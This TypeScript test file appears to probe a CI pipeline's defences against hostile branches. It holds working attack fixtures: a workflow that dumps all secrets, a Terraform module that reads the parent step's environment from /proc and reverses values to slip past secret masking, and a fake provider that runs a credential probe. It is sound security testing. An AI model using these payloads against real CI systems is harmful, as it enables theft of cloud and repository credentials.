import { execFileSync } from 'node:child_process';
import { chmodSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from '@jest/globals';
import { parse } from 'yaml';
import { checkTrust, PURPOSES } from '#core/aws/iam/trust.ts';
import { unpackPlan } from '#core/terraform/saved-plan/binding.ts';
import { unseal } from '#core/terraform/saved-plan/seal.ts';
import { parseWorkflow } from '#lab/github/runner/workflow.ts';
import { repositoryRoot } from '#lab/supervisor/root.ts';
import {
  type HostileJob,
  type Issuer,
  openJob,
  pullRequestWorkflow,
  readTrust,
  readWorkflowFile,
  startIssuer,
} from '#tests/support/hostile-job.ts';
import {
  credentialsIn,
  describeReach,
  outOf,
  PROBE,
  planIn,
  rowsOf,
  runIn,
  takeFound,
} from '#tests/support/hostile-step.ts';
import { FOLDER, type Ground, KEY, openGround, plainEnvironment } from '#tests/support/terraform.ts';

const MAIN = 'resource "terraform_data" "app" {\n  input = "one"\n}\n';
/** What Terraform and all that it starts are given besides the machine's own. */
const SESSION = ['AWS_ACCESS_KEY_ID', 'AWS_SECRET_ACCESS_KEY', 'AWS_SESSION_TOKEN'];
/** What they find in the step above them, which Linux lets a process of the same user read. */
const ABOVE = ['ACTIONS_ID_TOKEN_REQUEST_TOKEN', 'ACTIONS_RUNTIME_TOKEN', 'INPUT_KEY'];

let issuer: Issuer;
let ground: Ground;
beforeAll(async () => {
  issuer = await startIssuer();
});
beforeEach(() => {
  ground = openGround(MAIN);
});
afterEach(() => ground.remove());
afterAll(() => issuer.close());

test('the roles trust whom check:trust lets them trust', () => {
  const trusted = { repository: 'acme/tenant', ownerId: '1001', repositoryId: '2002', environment: 'aws' } as const;
  const trust = readTrust();
  expect(Object.keys(trust).sort()).toEqual([...PURPOSES].sort());
  for (const purpose of PURPOSES)
    expect(checkTrust(trust[purpose] ?? [], { ...trusted, subjectForm: 'immutable' }, purpose)).toEqual([]);
});

describe('a branch that changes the workflow', () => {
  /** The job `take` of what a branch has in the place of a workflow, as an event of that branch starts it. */
  const takeOver = (environment: string, event?: string, ref?: string, file = 'pull-request.yml'): HostileJob => {
    const text = `on: [pull_request, push]
permissions: write-all
jobs:
  take:
    runs-on: ubuntu-24.04
    ${environment}
    steps:
      - run: node "$PROBE" "$OUT"
        env: {TAKEN: "\${{ toJSON(secrets) }}"}
`;
    const options = { ...(event !== undefined && { event }), ...(ref !== undefined && { ref }) };
    return openJob(parseWorkflow(`.github/workflows/${file}`, text), 'take', options);
  };

  test('has what the environment of plans has, and every right of its own token', async () => {
    const job = takeOver('environment: plan');
    const program = join(ground.root, 'run.cjs'); // what `run: node` starts
    writeFileSync(program, `process.argv[2] = ${JSON.stringify(outOf(ground))};\nrequire(${JSON.stringify(PROBE)});\n`);
    await runIn(job, program, ground, issuer, { TAKEN: job.fill('${{ toJSON(secrets) }}') });
    expect([await describeReach('the workflow', takeFound(ground), job.rights, issuer)]).toEqual(
      rowsOf('the workflow'),
    );
  });

  test.each<[string, HostileJob]>([
    ['without an environment', takeOver('name: take')],
    ['in the environment of applies, once its reviewers let it', takeOver('environment: aws')],
    [
      'in that environment, under the name of the workflow that applies',
      takeOver('environment: aws', 'pull_request', undefined, 'apply.yml'),
    ],
    ['pushed under that name', takeOver('environment: aws', 'push', 'refs/heads/mallory', 'apply.yml')],
    [
      'pushed under the name of the workflow that deletes images',
      takeOver('name: take', 'push', 'refs/heads/mallory', 'retain.yml'),
    ],
    [
      'pushed under the name of the workflow that builds',
      takeOver('name: take', 'push', 'refs/heads/mallory', 'deploy.yml'),
    ],
  ])('has no role %s', async (_name, job) => {
    expect(await issuer.rolesOfJob(job)).toEqual([]);
  });

  test('cannot call the workflows whose roles delete, which GitHub would name in its token', async () => {
    for (const name of ['apply.yml', 'retain.yml'])
      expect(Object.keys(readWorkflowFile(name).triggers)).not.toContain('workflow_call');
    const applied = openJob(readWorkflowFile('apply.yml'), 'apply', { event: 'push', ref: 'refs/heads/main' });
    expect(await issuer.rolesOfJob(applied)).toEqual(['apply']);
  });
});

describe('a branch that changes an action', () => {
  /** Puts the attacker's program in the place of an action's, with the token of the job as a new input; returns the program. */
  function takeOver(action: string): string {
    const folder = join(ground.root, 'actions', action);
    const declared = readFileSync(join(repositoryRoot, 'actions', action, 'action.yml'), 'utf8');
    const more = 'inputs:\n  taken:\n    default: ${{ github.token }}\n';
    const { runs } = parse(declared) as { runs: { main: string } };
    mkdirSync(join(folder, runs.main, '..'), { recursive: true });
    writeFileSync(join(folder, 'action.yml'), declared.replace(/^inputs:\n/m, more));
    const text = `process.argv[2] = ${JSON.stringify(outOf(ground))};\nrequire(${JSON.stringify(PROBE)});\n`;
    writeFileSync(join(folder, runs.main), text);
    return join(folder, runs.main);
  }

  const places = [...pullRequestWorkflow.jobs].flatMap(([id, { steps }]) =>
    steps.flatMap(({ uses = '' }) => (uses.startsWith('./actions/') ? [[id, uses.slice('./actions/'.length)]] : [])),
  ) as [string, string][]; // pairs
  test.each(places)('has what the job %s has: %s', async (id, action) => {
    const job = openJob(pullRequestWorkflow, id);
    const program = takeOver(action);
    const given = job.stepVariables(action, join(ground.root, 'actions'));
    await runIn(job, program, ground, issuer, given);
    const attack = `an action in the job \`${id}\``;
    expect([await describeReach(attack, takeFound(ground), job.rights, issuer)]).toEqual(rowsOf(attack));
  });

  test('there are such places in every job but the one that a fork has', () => {
    expect([...new Set(places.map(([id]) => id))]).toEqual(['reach', 'manifests', 'plan', 'comment']);
  });
});

describe('a branch that changes', () => {
  test('a module: code without any program reads the step above it, and shows it in the comment as it likes', async () => {
    const remote = join(ground.root, '..', 'remote');
    execFileSync('git', ['init', '-q', remote]);
    writeFileSync(
      join(remote, 'main.tf'),
      `locals {
  step = regex("PPid:[^0-9]*([0-9]+)", file("/proc/self/status"))[0]
  seen = { for name, pid in { own = "self", above = local.step } : name => base64decode(filebase64("/proc/\${pid}/environ")) }
}
output "seen" {
  value = { for name, text in local.seen : name => [for pair in split("\\u0000", text) : strrev(pair)] }
}
output "plain" {
  value = split("\\u0000", local.seen.above)
}
`,
    );
    const git = (...args: string[]): Buffer =>
      execFileSync('git', ['-C', remote, '-c', 'user.name=m', '-c', 'user.email=m@example.com', ...args]);
    git('add', '-A');
    git('commit', '-q', '-m', 'take');
    const source = `module "taken" {\n  source = "git::file://${remote}"\n}\noutput "taken" {\n  value = module.taken.seen\n}\noutput "plain" {\n  value = module.taken.plain\n}\n`;
    ground.commit({ 'terraform/app/main.tf': `${MAIN}${source}` });
    await planIn(ground, issuer);
    const report = ground.read('plan-report.json');
    const reversed = [...KEY].reverse().join('');
    expect(report).toContain('INPUT_KEY=(sensitive)');
    expect([report.includes(KEY), report.includes(reversed)]).toEqual([false, true]); // hidden as it is, not as the author writes it
    const taken = readTaken();
    expect(credentialsIn(taken.own)).toEqual(SESSION);
    expect(Object.keys(taken.above)).toEqual(expect.arrayContaining(ABOVE));
    const { rights } = openJob(pullRequestWorkflow, 'plan');
    const token = await askWith(taken.above);
    expect([await describeReach('a module', { ...taken, token }, rights, issuer)]).toEqual(rowsOf('a module'));
  });

  test('a provider: a program that it starts, as that of an external data source does, has what it has', async () => {
    const attack = 'a provider, or a program that it starts for an external data source';
    const lock = 'terraform {\n  required_providers {\n    taken = {\n      source = "mallory/taken"\n    }\n  }\n}\n';
    ground.commit({ 'terraform/app/main.tf': `${lock}provider "taken" {}\nresource "taken_thing" "a" {}\n${MAIN}` });
    const rc = serveProvider(`#!/bin/sh\n"${process.execPath}" "${PROBE}" "${outOf(ground)}"\nexit 1\n`);
    const env = { ...plainEnvironment(), TF_CLI_CONFIG_FILE: rc };
    execFileSync('terraform', ['init', '-input=false'], { cwd: join(ground.root, FOLDER), env }); // its lock file is the author's, too
    ground.commit({});
    const text = await planIn(ground, issuer, { TF_CLI_CONFIG_FILE: rc });
    const found = takeFound(ground);
    expect(text).toMatch(/lost a provider, which crashed or did not start/);
    expect(credentialsIn(found.own)).toEqual(SESSION);
    expect(Object.keys(found.above)).toEqual(expect.arrayContaining(ABOVE));
    const { rights } = openJob(pullRequestWorkflow, 'plan');
    expect([await describeReach(attack, found, rights, issuer)]).toEqual(rowsOf(attack));
  });
});

/** Puts a program where Terraform finds the provider mallory/taken; returns the settings that say so. */
function serveProvider(program: string): string {
  const mirror = join(ground.root, '..', 'mirror');
  const platform = `${process.platform}_${process.arch === 'x64' ? 'amd64' : process.arch}`;
  const folder = join(mirror, 'registry.terraform.io/mallory/taken/1.0.0', platform);
  mkdirSync(folder, { recursive: true });
  writeFileSync(join(folder, 'terraform-provider-taken_v1.0.0'), program);
  chmodSync(join(folder, 'terraform-provider-taken_v1.0.0'), 0o755);
  const rc = join(mirror, 'rc');
  writeFileSync(rc, `provider_installation {\n  filesystem_mirror {\n    path = "${mirror}"\n  }\n}\n`);
  return rc;
}

/** Asks for the token that names the job, with what was found. */
async function askWith(above: Readonly<Record<string, string>>): Promise<string> {
  const { ACTIONS_ID_TOKEN_REQUEST_URL: url, ACTIONS_ID_TOKEN_REQUEST_TOKEN: request } = above;
  const answer = await fetch(`${url}&audience=sts.amazonaws.com`, { headers: { authorization: `bearer ${request}` } });
  const { value } = (await answer.json()) as { value: string };
  return value;
}

/** Reads what the module's output says, in the saved plan. */
function readTaken(): Record<'own' | 'above', Record<string, string>> {
  const sealed = unseal(readFileSync(join(ground.root, 'app.sealed')), KEY) ?? Buffer.alloc(0);
  const { planned_values } = JSON.parse(unpackPlan(sealed)?.json ?? '{}');
  const seen: Record<string, string[]> = planned_values.outputs.taken.value;
  const read = (name: string): Record<string, string> => {
    const pairs = (seen[name] ?? []).map((pair) => [...pair].reverse().join('').split(/=(.*)/s));
    return Object.fromEntries(pairs.map(([key = '', value = '']) => [key, value]));
  };
  return { own: read('own'), above: read('above') };
}
